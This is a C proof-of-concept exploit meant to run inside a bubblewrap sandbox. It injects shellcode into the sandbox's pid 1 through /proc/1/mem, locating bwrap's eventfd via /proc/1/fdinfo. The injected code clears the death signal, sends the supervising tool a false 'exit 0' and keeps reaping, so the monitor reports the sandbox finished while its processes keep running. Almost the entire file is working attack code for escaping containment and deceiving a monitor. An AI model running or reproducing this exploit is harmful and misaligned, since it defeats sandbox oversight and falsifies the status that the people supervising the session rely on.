// PoC: from inside the sandbox, take over bwrap's pid 1 through /proc/1/mem, drop its
// PDEATHSIG, tell the monitor "exit 0", and keep reaping: bwrapkit returns while the
// sandbox keeps running. Heartbeat: appends to ./heartbeat every 0.5 s for SECS seconds.
// bwrap's eventfd is found through /proc/1/fdinfo (its number changes between bwraps);
// the line "eventfd N" on stderr says the attack's precondition held, and without one it
// exits 3 before touching pid 1.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <time.h>
#include <sys/wait.h>
#include <dirent.h>
extern char sc_start[], sc_end[];
__asm__(".globl sc_start\n.globl sc_end\nsc_start:\n"
  "mov $157, %eax\n mov $1, %edi\n xor %esi, %esi\n syscall\n"          /* prctl(PR_SET_PDEATHSIG, 0) */
  "push $1\n mov %rsp, %rsi\n mov $0x7eadbeef, %edi\n mov $8, %edx\n mov $1, %eax\n syscall\n" /* write(event_fd, &1, 8): patched */
  "1:\n mov $-1, %edi\n xor %esi, %esi\n xor %edx, %edx\n xor %r10, %r10\n mov $61, %eax\n syscall\n jmp 1b\n" /* for(;;) wait4(-1,0,0,0) */
  "sc_end:\n");
int main(int argc, char **argv) {
  int secs = argc > 1 ? atoi(argv[1]) : 20;
  /* pid 1 must be blocked in wait4 (61), whose return the code is planted after: on a
     loaded host it may still be "running" (no pc at all) or in another call for a moment. */
  char buf[512] = {0}; char *last = 0;
  for (int tries = 0; tries < 400; tries++) {
    memset(buf, 0, sizeof buf);
    int f = open("/proc/1/syscall", O_RDONLY); read(f, buf, sizeof buf - 1); close(f);
    last = strrchr(buf, ' ');
    if (strncmp(buf, "61 ", 3) == 0 && last) break;
    last = 0; usleep(5000);
  }
  if (!last) { fprintf(stderr, "pid 1 never blocked in wait4: %s", buf); return 3; }
  unsigned long pc = strtoul(last + 1, 0, 16);
  fprintf(stderr, "pid1 syscall: %s", buf);
  int event_fd = -1; DIR *d = opendir("/proc/1/fdinfo"); struct dirent *e;
  while (d && (e = readdir(d))) {
    char path[300], info[1024] = {0}; snprintf(path, sizeof path, "/proc/1/fdinfo/%s", e->d_name);
    int i = open(path, O_RDONLY); if (i < 0) continue; read(i, info, sizeof info - 1); close(i);
    if (strstr(info, "eventfd-count:")) { event_fd = atoi(e->d_name); break; }
  }
  if (event_fd < 0) { fprintf(stderr, "no eventfd in /proc/1/fdinfo\n"); return 3; }
  fprintf(stderr, "eventfd %d\n", event_fd);
  size_t n = sc_end - sc_start; unsigned char code[256]; memcpy(code, sc_start, n);
  unsigned int placeholder = 0x7eadbeef;
  for (size_t k = 0; k + 4 <= n; k++) if (!memcmp(code + k, &placeholder, 4)) { memcpy(code + k, &event_fd, 4); break; }
  int m = open("/proc/1/mem", O_RDWR); if (m < 0) { perror("open /proc/1/mem"); return 1; }
  if (pwrite(m, code, n, pc) < 0) { perror("pwrite"); return 1; }
  close(m);
  pid_t c = fork(); if (c == 0) { if (fork() == 0) { usleep(100000); _exit(0); } _exit(0); }  /* an orphan for pid 1 to reap */
  waitpid(c, 0, 0);
  for (int i = 0; i < secs * 2; i++) {
    int h = open("heartbeat", O_WRONLY|O_CREAT|O_APPEND, 0644); dprintf(h, "%ld\n", (long)time(0)); close(h); usleep(500000);
  }
  return 0;
}
